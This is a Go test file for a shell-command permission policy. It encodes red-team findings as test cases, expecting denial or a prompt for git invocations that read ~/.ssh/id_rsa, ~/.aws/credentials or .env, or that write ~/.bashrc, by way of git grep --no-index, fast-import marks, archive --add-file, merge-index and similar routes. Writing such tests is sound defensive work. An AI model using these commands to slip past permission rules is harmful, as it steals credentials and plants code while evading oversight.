package policy_test

import (
	"testing"

	"github.com/signoff-dev/signoff/pkg/policy"
)

// redteamKGitPolicy is red team K's developer policy for git: git allowed
// whole, reads of ~/.ssh, ~/.aws and .env denied, writes of ~/.bashrc and
// .git denied.
func redteamKGitPolicy(t *testing.T) *policy.Policy {
	t.Helper()
	p, err := policy.Parse([]byte(`
mode: auto-edit
home: /home/dev
rules:
  - { rule: "bash(git)", action: allow }
  - { rule: "bash(git *)", action: allow }
  - { rule: "bash(cat *)", action: allow }
  - { rule: "bash(printf *)", action: allow }
  - { rule: "bash(mkdir *)", action: allow }
  - { rule: "bash(tar *)", action: allow }
  - { rule: "@files(~/.ssh/**)", action: deny }
  - { rule: "@files(**/.env)", action: deny }
  - { rule: "@files(~/.aws/**)", action: deny }
  - { rule: "@write(~/.bashrc)", action: deny }
  - { rule: "@write(**/.git/**)", action: deny }
`), "redteam-k-git.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestGitGrepPatternOptionKeepsTheTreeRead: git grep -e PATTERN (or -f
// FILE, or an option with a value such as -A 3) with no path searches the
// working directory's tree — with --no-index and -C ~, the home
// directory — and the value is not taken for a path (red team K, F5).
func TestGitGrepPatternOptionKeepsTheTreeRead(t *testing.T) {
	wantActions(t, redteamKGitPolicy(t), []bashCase{
		{"git -C ~ grep --no-index -e DECOY-SECRET", policy.Deny},
		{"git -C ~ grep --no-index -E DECOY-SECRET", policy.Deny},
		{"git -C ~ grep --no-index --and -e a -e b", policy.Deny},
		{"git -C ~ grep --no-index -f pats", policy.Deny},
		{"git -C ~ grep --no-index -ie KEY", policy.Deny},
		{"git -C ~ grep --no-index -eKEY", policy.Deny},
		{"git -C ~ grep -P -e x", policy.Deny},
		{"git -C ~ grep -A 3 KEY", policy.Deny},
		{"git -C ~ grep --max-depth 2 KEY", policy.Deny},
		{"git grep -eKEY ~/.ssh", policy.Deny},
		{"git grep -e KEY -- ~/.ssh", policy.Deny},
		{"git grep -f ~/.ssh/id_rsa src", policy.Deny},
		{"git grep -e x -- .env", policy.Deny},
		// Ordinary searches stay allowed.
		{"git grep -n X -- src", policy.Allow},
		{"git grep -e KEY", policy.Allow},
		{"git grep -ne foo src", policy.Allow},
		{"git grep -A 3 -e foo -- '*.go'", policy.Allow},
		{"git grep -c TODO", policy.Allow},
		{"git -C ~ grep -ne foo src", policy.Allow},
	})
}

// TestGitFastImportAsks: git fast-import reads a stream the policy cannot
// see, whose "option git export-pack-edges=FILE" appends to any file and
// whose "feature import-marks=/export-marks=" read and write any file
// with --allow-unsafe-features (red team K, F11).
func TestGitFastImportAsks(t *testing.T) {
	wantActions(t, redteamKGitPolicy(t), []bashCase{
		{`printf "feature import-marks=/home/dev/.ssh/id_rsa\n" | git fast-import --allow-unsafe-features`, policy.Ask},
		{`printf "feature export-marks=/home/dev/.bashrc\nblob\nmark :1\ndata 3\nabc\n" | git fast-import --allow-unsafe-features --quiet`, policy.Ask},
		{`printf "option git export-pack-edges=/home/dev/.bashrc\n" | git fast-import --quiet`, policy.Ask},
		{"git fast-import < stream", policy.Ask},
		{"git fast-import --export-marks=/home/dev/.bashrc < s", policy.Ask},
	})
}

// TestGitSubcommandOptionsAreClosed: git's entry is complete, so an option
// a sub-command's entry does not list asks even where that entry is not
// complete; the sub-commands whose options or operands read files or run
// programs declare it, and the plumbing that runs its operands or reads
// mailboxes is left out (red team K, F6). Ordinary work stays allowed.
func TestGitSubcommandOptionsAreClosed(t *testing.T) {
	wantActions(t, redteamKGitPolicy(t), []bashCase{
		{"mkdir -p out && git mailsplit -b -oout ~/.ssh/id_rsa", policy.Ask},
		{"git mailinfo msg patch < x", policy.Ask},
		{"git commit-tree -F ~/.ssh/id_rsa HEAD^{tree}", policy.Deny},
		{"git commit-tree --file ~/.ssh/id_rsa HEAD^{tree}", policy.Ask},
		{"git fmt-merge-msg -F ~/.ssh/id_rsa", policy.Deny},
		{"git fmt-merge-msg --file=/home/dev/.ssh/id_rsa", policy.Deny},
		{"git merge-index ./x.sh -a", policy.Ask},
		{"git merge-index -o sh -a", policy.Ask},
		{"git archive --add-file=/home/dev/.ssh/id_rsa HEAD | tar xO id_rsa", policy.Deny},
		{"git archive --format=zip --add-file=/home/dev/.aws/credentials HEAD -o x.zip", policy.Deny},
		{"git archive --add-fil=/home/dev/.ssh/id_rsa HEAD", policy.Deny},
		{"git maintenance start", policy.Ask},
		{"git maintenance register", policy.Ask},
		{"git quiltimport --patches ~/.ssh", policy.Ask},
		{"git for-each-repo --config=maintenance.repo gc", policy.Ask},
		{`printf 'get https://example.com/x /home/dev/.bashrc\n\n' | git remote-https origin https://example.com/y`, policy.Ask},
		{"git sparse-checkout set --cone src", policy.Allow},
		{"git remote update --prune", policy.Allow},
		{"git remote add -f --track main up https://example.com/y.git", policy.Allow},
		{"git merge -F ~/.ssh/id_rsa feat", policy.Deny},
		{"git merge -s evil feat", policy.Ask},
		{"git pull --strategy=evil", policy.Ask},
		{"git cherry-pick --strategy=evil abc1234", policy.Ask},
		{"git cherry-pick -s abc1234", policy.Allow}, // -s is --signoff there
		{"git switch -t origin/feat", policy.Allow},
		{"git apply --unsafe-paths x.patch", policy.Ask},
		{"git apply --build-fake-ancestor=/home/dev/.bashrc x.patch", policy.Deny},
		{"git difftool --tool=vimdiff", policy.Ask},
		{"git clone --reference ~/.ssh/x https://example.com/y.git", policy.Deny},
		{"git index-pack ~/.ssh/id_rsa", policy.Deny},
		{"git format-patch --signature-file=/home/dev/.ssh/id_rsa -1", policy.Deny},
		{"git push --frob origin main", policy.Ask},
		{"git rev-list --stdin < revs", policy.Ask},
		{"git restore --pathspec-from=.env", policy.Deny}, // the list file is read
		{"git restore --pathspec-from=list", policy.Ask},
		{"git add --pathspec-from-file=list", policy.Ask},
		{"git archive --remote=/home/dev/.ssh HEAD", policy.Deny},
		{"git read-tree --index-output=/home/dev/.bashrc HEAD", policy.Deny},
		// Ordinary work.
		{"git status", policy.Allow},
		{"git add -A", policy.Allow},
		{"git commit -m 'fix: x'", policy.Allow},
		{"git commit -m \"$(cat <<'EOF'\nfix: x\n\nbody\nEOF\n)\"", policy.Allow},
		{"git switch -c feat", policy.Allow},
		{"git checkout -b feat", policy.Allow},
		{"git branch -D old", policy.Allow},
		{"git stash push -m wip", policy.Allow},
		{"git stash pop", policy.Allow},
		{"git rebase -i HEAD~3", policy.Allow},
		{"git rebase --continue", policy.Allow},
		{"git fetch --all --prune", policy.Allow},
		{"git pull --rebase", policy.Allow},
		{"git push -u origin feat", policy.Allow},
		{"git push --force-with-lease", policy.Allow},
		{"git merge --no-ff -s ort feat", policy.Allow},
		{"git reset --hard HEAD~1", policy.Allow},
		{"git tag -a v1 -m release", policy.Allow},
		{"git remote -v", policy.Allow},
		{"git clone --depth 1 https://example.com/y.git", policy.Allow},
		{"git submodule update --init --recursive", policy.Allow},
		{"git format-patch -1 HEAD", policy.Allow},
		{"git archive --format=tar HEAD -o x.tar", policy.Allow},
		{"git rev-list --count HEAD", policy.Allow},
		{"git diff-tree --no-commit-id --name-only -r HEAD", policy.Allow},
		{"git commit-tree -m x HEAD^{tree}", policy.Allow},
		{"git grep -n X -- src", policy.Allow},
	})
}
